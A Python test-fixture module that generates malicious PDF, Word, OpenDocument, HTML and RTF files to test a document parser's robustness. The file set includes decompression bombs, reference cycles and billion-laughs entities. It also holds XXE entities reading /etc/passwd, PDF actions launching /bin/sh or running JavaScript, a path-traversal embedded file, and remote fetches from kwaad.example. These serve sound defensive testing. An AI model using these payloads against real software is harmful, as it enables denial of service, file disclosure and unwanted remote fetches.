"""Files that set out to do harm: bombs, cycles, huge numbers, things to fetch and things to run."""

# XML and PDF are easier to read on one line than cut in pieces.
# ruff: noqa: E501

import io
import zipfile
import zlib
from collections.abc import Mapping, Sequence

WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
ODF = "urn:oasis:names:tc:opendocument:xmlns"
HUGE = 99_999_999_999
CLAUSE = "Verwerker meldt een datalek"
_MIB = 1024 * 1024
_SHOWN = b"BT /F1 12 Tf 72 720 Td (Verwerker meldt een datalek) Tj ET\n"


def pdf(objects: Mapping[int, bytes], *, trailer: bytes = b"/Root 1 0 R", end: bytes = b"") -> bytes:
    """A PDF of these objects, with what `end` adds in place of the usual start of its table of places."""
    out = bytearray(b"%PDF-1.7\n")
    places = {}
    for number, body in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n"
    for number, place in places.items():
        out += b"%d 1\n%010d 00000 n \n" % (number, place)
    out += b"trailer\n<< /Size %d %s >>\n" % (max(objects) + 1, trailer.replace(b"TABLE", b"%d" % table))
    return bytes(out + (end or b"startxref\n%d\n%%%%EOF\n" % table))


def stream(data: bytes, entries: bytes = b"") -> bytes:
    """A stream with these entries in its dictionary."""
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), entries, data)


def one_page(
    content: bytes = _SHOWN, *, page: bytes = b"", catalog: bytes = b"", resources: bytes = b"", filtered: bytes = b"", **more: bytes
) -> bytes:  # fmt: skip
    """A PDF of one page with this content; `more` are objects o10, o11 …"""
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R %s "
        b"/Resources << /Font << /F1 5 0 R >> %s >> >>" % (page, resources),
        4: stream(content, filtered),
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
    }
    return pdf(objects | {int(name[1:]): body for name, body in more.items()})


def deflated(data: bytes, times: int = 1) -> bytes:
    """`data` deflated so many times over."""
    for _ in range(times):
        data = zlib.compress(data, 9)
    return data


def page_tree(kids: bytes, count: int) -> bytes:
    """A PDF whose page tree is `kids` and says that it holds so many pages."""
    return pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids %s /Count %d >>" % (kids, count),
            3: b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>",
        }
    )


def deep_page_tree(depth: int) -> bytes:
    """A PDF whose only page stands under so many levels of its page tree."""
    levels = {number: b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (number + 1) for number in range(2, depth + 2)}
    return pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>", **levels, depth + 2: b"<< /Type /Page /MediaBox [0 0 9 9] >>"})


def calling_forms(depth: int, calls: int) -> bytes:
    """A page with a form that calls a form, so deep, each so many times."""
    forms = {
        f"o{10 + level}": stream(
            b"/X Do " * calls, b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X %d 0 R >> >>"
            % (11 + level if level < depth else 10),
        )
        for level in range(depth + 1)
    }  # fmt: skip
    return one_page(_SHOWN + b"/X Do\n", resources=b"/XObject << /X 10 0 R >>", **forms)


PDFS: Mapping[str, bytes] = {
    "page-tree-cycle": page_tree(b"[3 0 R 2 0 R]", 2),
    "page-count-huge": page_tree(b"[3 0 R]", HUGE),
    "page-count-31-bits": page_tree(b"[3 0 R]", 2**31 - 1),
    "page-count-negative": page_tree(b"[3 0 R]", -5),
    "page-tree-deep": deep_page_tree(20_000),
    "xref-cycle": pdf(
        {1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [] /Count 0 >>"},
        trailer=b"/Root 1 0 R /Prev TABLE",
    ),
    "object-stream-in-itself": pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            6: stream(b"6 0 2 10 << >> << /Type /Pages >>", b"/Type /ObjStm /N 2 /First 9 /Extends 6 0 R"),
        }
    ),
    "object-stream-of-many": pdf(
        {6: stream(b"1 0 ", b"/Type /ObjStm /N %d /First %d" % (HUGE, HUGE))}
    ),
    "brackets-deep": one_page(b"[" * 200_000),
    "dictionaries-deep": pdf({1: b"<< /Type /Catalog /Pages 2 0 R /X " + b"<< /X " * 100_000 + b">>" * 100_000 + b" >>"}),
    "length-refers-to-itself": pdf(
        {1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
         3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>",
         4: b"<< /Length 4 0 R >>\nstream\nBT ET\nendstream"}
    ),
    "deflated-content-bomb": one_page(
        deflated(b"BT /F1 1 Tf (a) Tj ET\n" * 4_000_000), filtered=b"/Filter /FlateDecode"
    ),
    "deflated-three-times": one_page(
        deflated(bytes(200 * _MIB), 3), filtered=b"/Filter [/FlateDecode /FlateDecode /FlateDecode]"
    ),
    "saved-states-endless": one_page(b"q " * 3_000_000),
    "forms-branching": calling_forms(12, 12),
    "lines-endless": one_page(
        deflated(b"0 0 m 9 9 l S\n" * 2_000_000), filtered=b"/Filter /FlateDecode"
    ),
}  # fmt: skip
"""PDFs that can't be read."""

READ_PDFS: Mapping[str, bytes] = {
    "form-calls-itself": calling_forms(0, 1),
    "forms-call-each-other": calling_forms(1, 1),
    "picture-huge": one_page(
        _SHOWN + b"/X Do\n",
        resources=b"/XObject << /X 10 0 R >>",
        o10=stream(b"0", b"/Type /XObject /Subtype /Image /Width 2000000000 /Height 2000000000 /BitsPerComponent 8 /ColorSpace /DeviceRGB"),
    ),
    "page-box-huge": one_page(page=b"/UserUnit 99999999 /CropBox [0 0 1e30 1e30] /Rotate 99999999990"),
    "opens-with-a-script": one_page(
        catalog=b"/OpenAction << /S /JavaScript /JS (app.launchURL\\('http://kwaad.example'\\)) >> "
        b"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (while\\(1\\){}) >>] >> >>"
    ),
    "starts-a-program": one_page(catalog=b"/OpenAction << /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >> >>"),
    "attached-file": one_page(
        catalog=b"/Names << /EmbeddedFiles << /Names [(../../../../tmp/kwaad.sh) << /Type /Filespec /F (../../../../tmp/kwaad.sh) "
        b"/EF << /F 10 0 R >> >>] >> >>",
        o10=stream(b"rm", b"/Type /EmbeddedFile"),
    ),
    "names-tree-cycle": one_page(
        catalog=b"/Names << /EmbeddedFiles 10 0 R >>", o10=b"<< /Kids [10 0 R 10 0 R] >>"
    ),
    "outline-cycle": one_page(catalog=b"/Outlines 10 0 R", o10=b"<< /First 10 0 R /Last 10 0 R /Next 10 0 R /Title (a) >>"),
    "field-is-its-own-parent": one_page(
        page=b"/Annots [10 0 R]", catalog=b"/AcroForm << /Fields [10 0 R] >>",
        o10=b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (b) /Rect [0 0 9 9] /Parent 10 0 R /Kids [10 0 R] >>",
    ),
    "content-from-elsewhere": one_page(page=b"/AA << /O << /S /GoToR /F << /FS /URL /F (http://kwaad.example/x.pdf) >> >> >>"),
}  # fmt: skip
"""PDFs whose text is read, and nothing else of what they ask for is done."""


def packed(parts: Mapping[str, str | bytes]) -> bytes:
    """An archive of these parts."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in parts.items():
            archive.writestr(name, part)
    return buffer.getvalue()


def docx(body: str, relations: Sequence[str] = (), *, before: str = "", **parts: str) -> bytes:
    """A Word document with this body, these relations, and parts beside it; `before` stands before its root."""
    own = "".join(f'<Relationship Id="{name}" Type="{RELATIONS}/{name}" Target="{name}.xml"/>' for name in parts)
    root = f'<w:document xmlns:w="{WORD}" xmlns:r="{RELATIONS}"><w:body>{body}</w:body></w:document>'
    return packed(
        {
            "[Content_Types].xml": "<Types/>",
            "word/_rels/document.xml.rels": f'<Relationships xmlns="{PACKAGE}">{own}{"".join(relations)}</Relationships>',
            "word/document.xml": before + root,
            **{f"word/{name}.xml": part for name, part in parts.items()},
        }
    )


def paragraph(text: str = CLAUSE, properties: str = "") -> str:
    """A paragraph of a Word document."""
    return f"<w:p><w:pPr>{properties}</w:pPr><w:r><w:t>{text}</w:t></w:r></w:p>"


def relation(kind: str, target: str) -> str:
    """A relation to something outside the document."""
    return f'<Relationship Id="x" Type="{RELATIONS}/{kind}" Target="{target}" TargetMode="External"/>'


def odt(body: str, *, before: str = "") -> bytes:
    """An OpenDocument text with this body."""
    spaces = " ".join(
        f'xmlns:{name}="{ODF}:{long}:1.0"'
        for name, long in (("office", "office"), ("text", "text"), ("table", "table"), ("draw", "drawing"))
    )
    link = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
    main = (
        f"{before}<office:document-content {spaces} {link}><office:body><office:text>{body}</office:text></office:body>"
        "</office:document-content>"
    )
    return packed({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": main})


def entities(what: str) -> str:
    """A declaration of entities: of a file, of an address, or of a billion copies of one another."""
    if what == "billion":
        named = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
        return f'<!DOCTYPE x [<!ENTITY e0 "aaaaaaaaaa">{named}]>'
    return f'<!DOCTYPE x [<!ENTITY e9 SYSTEM "{what}">]>'


_ENTITY = paragraph("&e9;")
_START = (
    f'<w:numbering xmlns:w="{WORD}"><w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:start w:val="{{}}"/>'
    '<w:numFmt w:val="{}"/><w:lvlText w:val="%1."/></w:lvl></w:abstractNum>'
    '<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>'
)
_LISTED = '<w:numPr><w:ilvl w:val="{}"/><w:numId w:val="1"/></w:numPr>'
_CELL = f'<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="{{}}"/></w:tcPr>{paragraph()}</w:tc></w:tr></w:tbl>'
_ODF_CELL = f"<table:table><table:table-row {{}}><table:table-cell {{}}><text:p>{CLAUSE}</text:p></table:table-cell></table:table-row></table:table>"

OFFICE: Mapping[str, bytes] = {
    "entities-of-a-file.docx": docx(_ENTITY, before=entities("file:///etc/passwd")),
    "entities-of-an-address.docx": docx(_ENTITY, before=entities("http://kwaad.example/x")),
    "entities-by-the-billion.docx": docx(_ENTITY, before=entities("billion")),
    "entities-in-the-styles.docx": docx(paragraph(), styles=entities("file:///etc/passwd") + "<x>&e9;</x>"),
    "nested.docx": docx("<w:sdt><w:sdtContent>" * 100_000),
    "entities-of-a-file.odt": odt("<text:p>&e9;</text:p>", before=entities("file:///etc/passwd")),
    "entities-by-the-billion.odt": odt("<text:p>&e9;</text:p>", before=entities("billion")),
    "nested.odt": odt("<text:section>" * 100_000),
    "parts-too-many.docx": packed({"word/document.xml": "<a/>", **{f"word/{n}.xml": "" for n in range(6_000)}}),
    "bomb-in-a-part.docx": docx(paragraph(), styles=" " * 60 * _MIB),
}
"""Office files that can't be read."""

READ_OFFICE: Mapping[str, bytes] = {
    "remote-template.docx": docx(
        paragraph(), settings=f'<w:settings xmlns:w="{WORD}" xmlns:r="{RELATIONS}"><w:attachedTemplate r:id="x"/></w:settings>',
        relations=[relation("attachedTemplate", "http://kwaad.example/sjabloon.dotm")],
    ),
    "relations-to-the-net.docx": docx(
        paragraph(),
        relations=[relation(kind, f"{address}") for kind in ("styles", "numbering", "footnotes", "header", "image", "oleObject")
                   for address in ("http://kwaad.example/x.xml", "file:///etc/passwd", "\\\\kwaad.example\\x")],
    ),
    "relation-out-of-the-package.docx": docx(
        paragraph(), relations=[f'<Relationship Id="s" Type="{RELATIONS}/styles" Target="../../../../etc/passwd"/>']
    ),
    "relation-to-itself.docx": docx(
        paragraph(), relations=[f'<Relationship Id="s" Type="{RELATIONS}/{kind}" Target="document.xml"/>'
                                for kind in ("styles", "numbering", "footnotes", "comments", "header")],
    ),
    "fetching-field.docx": docx(
        paragraph() + '<w:p><w:fldSimple w:instr="INCLUDETEXT http://kwaad.example/x"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
    ),
    "start-huge.docx": docx(paragraph(properties=_LISTED.format(0)), numbering=_START.format(HUGE, "decimal")),
    "start-huge-roman.docx": docx(paragraph(properties=_LISTED.format(0)), numbering=_START.format(HUGE, "upperRoman")),
    "start-huge-letters.docx": docx(paragraph(properties=_LISTED.format(0)), numbering=_START.format(HUGE, "lowerLetter")),
    "start-huge-words.docx": docx(paragraph(properties=_LISTED.format(0)), numbering=_START.format(HUGE, "cardinalText")),
    "start-endless.docx": docx(paragraph(properties=_LISTED.format(0)), numbering=_START.format("9" * 5_000, "decimal")),
    "start-negative.docx": docx(paragraph(properties=_LISTED.format(0)), numbering=_START.format(-HUGE, "lowerRoman")),
    "number-of-signs.docx": docx(
        (paragraph("Artikel 1. Inbreuken") + paragraph(properties=_LISTED.format(0))) * 2,
        numbering=_START.format(1, "decimal").replace("%1.", "²"),
    ),
    "style-level-a-sign.docx": docx(
        paragraph(), styles=f'<w:styles xmlns:w="{WORD}"><w:style w:type="paragraph" w:styleId="a"><w:pPr><w:numPr>'
        '<w:ilvl w:val="²"/></w:numPr><w:outlineLvl w:val="³"/></w:pPr></w:style></w:styles>',
    ),
    "level-huge.docx": docx(paragraph(properties=_LISTED.format(HUGE)), numbering=_START.format(1, "decimal")),
    "span-huge.docx": docx(_CELL.format(HUGE)),
    "span-endless.docx": docx(_CELL.format("9" * 5_000)),
    "cells-repeated.odt": odt(_ODF_CELL.format("", f'table:number-columns-repeated="{HUGE}"')),
    "rows-repeated.odt": odt(_ODF_CELL.format(f'table:number-rows-repeated="{HUGE}"', "")),
    "span-huge.odt": odt(_ODF_CELL.format("", f'table:number-columns-spanned="{HUGE}" table:number-rows-spanned="{HUGE}"')),
    "spaces-huge.odt": odt(f'<text:p>{CLAUSE}<text:s text:c="{HUGE}"/>.</text:p>'),
    "start-huge.odt": odt(f'<text:list><text:list-item text:start-value="{HUGE}"><text:p>{CLAUSE}</text:p></text:list-item></text:list>'),
    "level-huge.odt": odt(f'<text:h text:outline-level="{HUGE}">x</text:h><text:p>{CLAUSE}</text:p>'),
    "fetching-section.odt": odt(
        f'<text:section text:name="s"><text:section-source xlink:href="http://kwaad.example/x.odt"/><text:p>{CLAUSE}</text:p></text:section>'
        '<text:p><draw:frame><draw:image xlink:href="file:///etc/passwd"/></draw:frame></text:p>'
    ),
    "span-huge.html": f"<html><body><table><tr><td colspan={HUGE} rowspan={HUGE}>{CLAUSE}</td></tr></table></body></html>".encode(),
    "start-huge.html": f'<html><body><ol start="{HUGE}"><li>{CLAUSE}</li></ol></body></html>'.encode(),
    "values-in-every-item.html": (
        f"<html><body><p>{CLAUSE}</p><ol start='²'>" + '<li value="2">' * 9 + "</ol></body></html>"
    ).encode(),
    "start-endless.html": f'<html><body><ol start="{"9" * 5_000}"><li value="{"9" * 5_000}">{CLAUSE}</li></ol></body></html>'.encode(),
    "fetching.html": (
        '<!DOCTYPE html [<!ENTITY e SYSTEM "file:///etc/passwd">]><html><head><base href="file:///etc/"><link rel="stylesheet" '
        f'href="http://kwaad.example/x.css"><script src="http://kwaad.example/x.js"></script></head><body><p>{CLAUSE} &e;</p>'
        '<iframe src="file:///etc/passwd"></iframe><object data="file:///etc/passwd"></object></body></html>'
    ).encode(),
    "numbers-huge.rtf": rb"{\rtf1\ansi\uc99999999999 \fs99999999999 \u99999999999? \li-99999999999 Verwerker meldt een datalek\par}",
    "fetching.rtf": rb"{\rtf1\ansi{\field{\*\fldinst INCLUDETEXT http://kwaad.example/x}{\fldrslt x}}{\*\template http://kwaad.example/y.dotm}Verwerker meldt een datalek\par}",
}  # fmt: skip
"""Files of other formats whose text is read, and nothing else of what they ask for is done."""
